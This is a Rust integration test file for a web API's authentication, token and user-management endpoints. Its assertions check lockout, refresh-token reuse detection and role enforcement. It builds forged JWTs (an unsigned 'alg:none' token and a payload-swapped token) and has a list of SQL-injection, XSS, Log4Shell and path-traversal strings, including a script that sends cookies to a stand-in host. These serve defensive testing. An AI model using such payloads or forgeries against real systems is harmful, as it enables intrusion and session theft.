//! Sign-in, tokens and users through the real API: lockout without account enumeration,
//! refresh-token rotation and reuse detection, tampered tokens, disabled users, role changes,
//! and hostile strings stored inertly.

mod support;

use actix_web::http::StatusCode;
use serde_json::{json, Value};
use support::*;

fn b64url(raw: &[u8]) -> String {
    const TABLE: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let mut out = String::new();
    for chunk in raw.chunks(3) {
        let n = chunk.iter().fold(0u32, |acc, b| (acc << 8) | *b as u32) << (8 * (3 - chunk.len()));
        for i in 0..=chunk.len() {
            out.push(TABLE[((n >> (18 - 6 * i)) & 63) as usize] as char);
        }
    }
    out
}

#[actix_web::test]
async fn wrong_passwords_lock_an_address_after_five_and_unknown_addresses_answer_alike() {
    let app = spawn_app().await;
    app.user("victim@example.com", "operator").await;
    let mut refusals = Vec::new();
    for _ in 0..5 {
        let a = app.login("victim@example.com", "not the password").await;
        assert_eq!(a.status, StatusCode::UNAUTHORIZED, "{:?}", a.body);
        assert!(a.header("www-authenticate").unwrap().starts_with("Bearer"));
        refusals.push(a.body["detail"].clone());
    }
    // Locked: even the right password is refused now, with Retry-After.
    let locked = app.login("victim@example.com", PASSWORD).await;
    assert_eq!(locked.status, StatusCode::TOO_MANY_REQUESTS);
    let retry: i64 = locked.header("retry-after").unwrap().parse().unwrap();
    assert!((1..=15 * 60).contains(&retry), "{retry}");
    assert_eq!(
        locked.body["detail"], refusals[0],
        "a lock says what a refusal says"
    );

    // An address nobody has answers the same way, lock included.
    for _ in 0..5 {
        let a = app.login("nobody@example.com", "not the password").await;
        assert_eq!(a.status, StatusCode::UNAUTHORIZED);
        assert_eq!(a.body["detail"], refusals[0]);
    }
    let unknown = app.login("nobody@example.com", "not the password").await;
    assert_eq!(unknown.status, StatusCode::TOO_MANY_REQUESTS);
    assert_eq!(unknown.body["detail"], locked.body["detail"]);

    // Other addresses are not affected.
    assert_eq!(
        app.login(ADMIN_EMAIL, PASSWORD).await.status,
        StatusCode::OK
    );
}

#[actix_web::test]
async fn refresh_tokens_rotate_and_a_reused_one_revokes_its_sign_in() {
    let app = spawn_app().await;
    let session = app.login(ADMIN_EMAIL, PASSWORD).await;
    assert_eq!(session.header("cache-control"), Some("no-store"));
    let first = session.body["refresh_token"].as_str().unwrap().to_string();
    let refresh = |token: String| {
        let app = &app;
        async move {
            app.send_as(
                None,
                "POST",
                "/api/v1/auth/refresh",
                Some(&json!({ "refresh_token": token }).to_string()),
                &[],
            )
            .await
        }
    };
    let rotated = refresh(first.clone()).await;
    assert_eq!(rotated.status, StatusCode::OK, "{:?}", rotated.body);
    let second = rotated.body["refresh_token"].as_str().unwrap().to_string();
    assert_ne!(first, second);
    let token = rotated.body["access_token"].as_str().unwrap();
    assert_eq!(
        app.send_as(Some(token), "GET", "/api/v1/users/me", None, &[])
            .await
            .status,
        StatusCode::OK
    );
    // The first token again: a replay. It is refused, and so is the token that replaced it.
    assert_eq!(refresh(first).await.status, StatusCode::UNAUTHORIZED);
    assert_eq!(refresh(second).await.status, StatusCode::UNAUTHORIZED);

    // Sign-out ends a sign-in; signing out twice is fine.
    let other = app.login(ADMIN_EMAIL, PASSWORD).await.body["refresh_token"]
        .as_str()
        .unwrap()
        .to_string();
    let body = json!({ "refresh_token": other }).to_string();
    for _ in 0..2 {
        let out = app
            .send_as(None, "POST", "/api/v1/auth/logout", Some(&body), &[])
            .await;
        assert_eq!(out.status, StatusCode::NO_CONTENT);
    }
    assert_eq!(refresh(other).await.status, StatusCode::UNAUTHORIZED);
    assert_eq!(
        refresh("garbage".into()).await.status,
        StatusCode::UNAUTHORIZED
    );
}

#[actix_web::test]
async fn bad_expired_and_forged_tokens_are_401() {
    let app = spawn_app().await;
    let admin = uuid::Uuid::parse_str(&app.admin_id).unwrap();
    let now = chrono::Utc::now();
    let payload = json!({"sub": admin, "role": "admin", "iss": "recon", "iat": now.timestamp(),
        "exp": now.timestamp() + 600});
    let unsigned = format!(
        "{}.{}.",
        b64url(br#"{"alg":"none","typ":"JWT"}"#),
        b64url(payload.to_string().as_bytes())
    );
    let other_key = application::identity::AccessTokens::from_secret(&[1u8; 32])
        .unwrap()
        .issue(admin, domain::Role::Admin, now);
    // The real token with its payload swapped for one claiming another role: the signature no
    // longer matches.
    let parts: Vec<&str> = app.admin_token.split('.').collect();
    let swapped = format!(
        "{}.{}.{}",
        parts[0],
        b64url(
            payload
                .to_string()
                .replace("admin\"", "auditor\"")
                .as_bytes()
        ),
        parts[2]
    );
    let long = "x".repeat(10_000);
    for token in [
        unsigned.as_str(),
        &other_key,
        &swapped,
        "not-a-jwt",
        "a.b.c",
        &long,
    ] {
        let a = app
            .send_as(Some(token), "GET", "/api/v1/projects", None, &[])
            .await;
        assert_eq!(a.status, StatusCode::UNAUTHORIZED, "{token:.40}");
        assert_eq!(a.header("content-type"), Some("application/problem+json"));
    }
    for header in ["Basic YWRtaW46YWRtaW4=", "Bearer", "Bearer    ", "token"] {
        let a = app
            .send_as(
                None,
                "GET",
                "/api/v1/projects",
                None,
                &[("authorization", header)],
            )
            .await;
        assert_eq!(a.status, StatusCode::UNAUTHORIZED, "{header}");
    }
}

#[actix_web::test]
async fn disabling_a_user_ends_their_access_and_role_changes_apply_at_once() {
    let app = spawn_app().await;
    let (viewer_id, viewer) = app.user("v@example.com", "viewer").await;
    let create = json!({"name": "p", "base_currency": "EUR"}).to_string();
    let as_viewer = app
        .send_as(
            Some(&viewer),
            "POST",
            "/api/v1/projects",
            Some(&create),
            &[],
        )
        .await;
    assert_eq!(as_viewer.status, StatusCode::FORBIDDEN);
    let promoted = app
        .send(
            "PUT",
            &format!("/api/v1/users/{viewer_id}/role"),
            Some(r#"{"role": "operator"}"#),
            &[],
        )
        .await;
    assert_eq!(promoted.status, StatusCode::OK, "{:?}", promoted.body);
    let as_operator = app
        .send_as(
            Some(&viewer),
            "POST",
            "/api/v1/projects",
            Some(&create),
            &[],
        )
        .await;
    assert_eq!(
        as_operator.status,
        StatusCode::CREATED,
        "{:?}",
        as_operator.body
    );

    let disabled = app
        .send(
            "POST",
            &format!("/api/v1/users/{viewer_id}/disable"),
            None,
            &[],
        )
        .await;
    assert_eq!(disabled.status, StatusCode::OK);
    let after = app
        .send_as(Some(&viewer), "GET", "/api/v1/users/me", None, &[])
        .await;
    assert_eq!(after.status, StatusCode::UNAUTHORIZED);
    assert_eq!(
        app.login("v@example.com", PASSWORD).await.status,
        StatusCode::UNAUTHORIZED
    );
    // An admin cannot lock themselves out.
    let own = app
        .send(
            "POST",
            &format!("/api/v1/users/{}/disable", app.admin_id),
            None,
            &[],
        )
        .await;
    assert_eq!(own.status, StatusCode::CONFLICT);
}

#[actix_web::test]
async fn passwords_change_and_are_never_returned() {
    let app = spawn_app().await;
    let (id, token) = app.user("p@example.com", "operator").await;
    let me = app
        .send_as(Some(&token), "GET", "/api/v1/users/me", None, &[])
        .await;
    let keys: Vec<&String> = me.body.as_object().unwrap().keys().collect();
    assert_eq!(keys, ["email", "role", "status", "user_id", "version"]);
    assert_eq!(me.body["user_id"], id.as_str());
    let session = app.login("p@example.com", PASSWORD).await;
    assert!(!session.body.to_string().contains("argon2"));

    let weak = app
        .send_as(
            Some(&token),
            "PUT",
            "/api/v1/users/me/password",
            Some(r#"{"current_password": "a long enough password", "new_password": "short"}"#),
            &[],
        )
        .await;
    assert_eq!(weak.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(weak.body["errors"][0]["path"], "new_password");
    let wrong = app
        .send_as(
            Some(&token),
            "PUT",
            "/api/v1/users/me/password",
            Some(
                r#"{"current_password": "not it at all", "new_password": "another long password"}"#,
            ),
            &[],
        )
        .await;
    assert_eq!(wrong.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(wrong.body["errors"][0]["path"], "current_password");
    let changed = app
        .send_as(Some(&token), "PUT", "/api/v1/users/me/password",
            Some(r#"{"current_password": "a long enough password", "new_password": "another long password"}"#), &[])
        .await;
    assert_eq!(changed.status, StatusCode::OK, "{:?}", changed.body);
    assert_eq!(
        app.login("p@example.com", PASSWORD).await.status,
        StatusCode::UNAUTHORIZED
    );
    assert_eq!(
        app.login("p@example.com", "another long password")
            .await
            .status,
        StatusCode::OK
    );
    // Duplicate addresses (in any case) are refused.
    let again = app
        .post(
            "/api/v1/users",
            json!({"email": "P@Example.com", "role": "viewer", "password": PASSWORD}),
        )
        .await;
    assert_eq!(again.status, StatusCode::CONFLICT);
}

/// A few dozen of the usual XSS and SQL-injection strings.
const HOSTILE: &[&str] = &[
    "' OR '1'='1",
    "' OR 1=1 --",
    "'; DROP TABLE events; --",
    "\"; DROP TABLE users; --",
    "1; SELECT pg_sleep(5)",
    "' UNION SELECT password_hash FROM user_credentials --",
    "admin'--",
    "') OR ('a'='a",
    "%27%20OR%201%3D1",
    "1' AND (SELECT COUNT(*) FROM pg_tables) > 0 --",
    "$1",
    "\\'; COPY events TO '/tmp/x'; --",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg/onload=alert(1)>",
    "javascript:alert(1)",
    "<iframe src=\"javascript:alert(1)\">",
    "<body onload=alert('x')>",
    "'\"><script>document.location='http://x/'+document.cookie</script>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "{{7*7}}",
    "${jndi:ldap://x/a}",
    "../../../../etc/passwd",
    "%00",
    "\u{202e}gnp.exe",
    "😀👍🏽",
    "Robert'); DROP TABLE Students;--",
    "<svg><script>alert&#40;1&#41;</script>",
    "\" onmouseover=\"alert(1)",
    "';alert(String.fromCharCode(88,83,83))//",
    // PostgreSQL stores no U+0000 in text or jsonb (schemathesis found the 500 this caused).
    "\u{0}",
    "x\u{0}'; DROP TABLE events; --",
];

#[actix_web::test]
async fn hostile_strings_are_refused_cleanly_or_stored_inertly() {
    let app = spawn_app().await;
    for (i, text) in HOSTILE.iter().enumerate() {
        let created = app
            .post(
                "/api/v1/projects",
                json!({"name": text, "description": text, "base_currency": "EUR"}),
            )
            .await;
        assert!(
            created.status == StatusCode::CREATED
                || created.status == StatusCode::UNPROCESSABLE_ENTITY,
            "{text}: {} {:?}",
            created.status,
            created.body
        );
        if created.status == StatusCode::CREATED {
            let id = created.body["id"].as_str().unwrap();
            let pos = created.body["position"].as_i64().unwrap();
            let got = app
                .get(&format!("/api/v1/projects/{id}?wait_for_position={pos}"))
                .await;
            assert_eq!(
                got.body["description"],
                Value::String(text.trim().to_string()),
                "{text}"
            );
        }
        for body in [
            json!({"email": text, "password": text}),
            json!({"email": format!("{i}{text}@example.com"), "password": PASSWORD}),
        ] {
            let login = app
                .send_as(
                    None,
                    "POST",
                    "/api/v1/auth/login",
                    Some(&body.to_string()),
                    &[],
                )
                .await;
            // A NUL character is refused as a field error before any account is looked up.
            let malformed = text.contains('\0') && login.status == StatusCode::UNPROCESSABLE_ENTITY;
            assert!(
                matches!(login.status.as_u16(), 401 | 429) || malformed,
                "{text}: {} {:?}",
                login.status,
                login.body
            );
        }
        let user = app
            .post(
                "/api/v1/users",
                json!({"email": text, "role": text, "password": text}),
            )
            .await;
        assert_eq!(
            user.status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{text}: {:?}",
            user.body
        );
        let path = format!("/api/v1/projects/{}", urlencode(text));
        let odd = app.get(&path).await;
        assert!(matches!(odd.status.as_u16(), 404), "{path}: {}", odd.status);
    }
    // The store is intact and answers.
    assert_eq!(app.get("/api/v1/projects").await.status, StatusCode::OK);
}

fn urlencode(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

#[actix_web::test]
async fn admins_list_users_with_their_role_and_status_and_never_a_secret() {
    let app = spawn_app().await;
    let (viewer_id, _) = app.user("v@example.com", "viewer").await;
    let (op_id, _) = app.user("o@example.com", "operator").await;
    let disabled = app
        .send("POST", &format!("/api/v1/users/{op_id}/disable"), None, &[])
        .await;
    let pos = disabled.body["position"].as_i64().unwrap();
    let all = app
        .get(&format!("/api/v1/users?wait_for_position={pos}"))
        .await;
    assert_eq!(all.status, StatusCode::OK, "{:?}", all.body);
    assert_eq!(all.body["total"], 3);
    let emails: Vec<&str> = all.body["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|u| u["email"].as_str().unwrap())
        .collect();
    assert_eq!(emails, [ADMIN_EMAIL, "v@example.com", "o@example.com"]);
    assert!(!all.body.to_string().contains("argon2"));
    let viewers = app.get("/api/v1/users?role=viewer").await;
    assert_eq!(viewers.body["items"][0]["user_id"], viewer_id.as_str());
    assert_eq!(viewers.body["total"], 1);
    let off = app.get("/api/v1/users?status=disabled").await;
    assert_eq!(off.body["items"][0]["user_id"], op_id.as_str());
    assert_eq!(off.body["items"][0]["version"], 2);
    let bad = app.get("/api/v1/users?role=root").await;
    assert_eq!(bad.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(bad.body["errors"][0]["path"], "role");
}

/// Found by schemathesis: an admin could demote themselves (the last admin locking everyone
/// out). Neither demoting nor disabling oneself is allowed; another admin may do both.
#[actix_web::test]
async fn an_admin_cannot_demote_or_disable_themselves_but_another_admin_can() {
    let app = spawn_app().await;
    let own_role = format!("/api/v1/users/{}/role", app.admin_id);
    let demoted = app
        .send("PUT", &own_role, Some(r#"{"role": "viewer"}"#), &[])
        .await;
    assert_eq!(demoted.status, StatusCode::CONFLICT, "{:?}", demoted.body);
    let own_disable = format!("/api/v1/users/{}/disable", app.admin_id);
    let disabled = app.send("POST", &own_disable, None, &[]).await;
    assert_eq!(disabled.status, StatusCode::CONFLICT, "{:?}", disabled.body);
    let me = app.get("/api/v1/users/me").await;
    assert_eq!(me.body["role"], "admin");
    assert_eq!(me.body["status"], "active");

    let (_, other_admin) = app.user("second-admin@example.com", "admin").await;
    let by_other = app
        .send_as(
            Some(&other_admin),
            "PUT",
            &own_role,
            Some(r#"{"role": "viewer"}"#),
            &[],
        )
        .await;
    assert_eq!(by_other.status, StatusCode::OK, "{:?}", by_other.body);
}
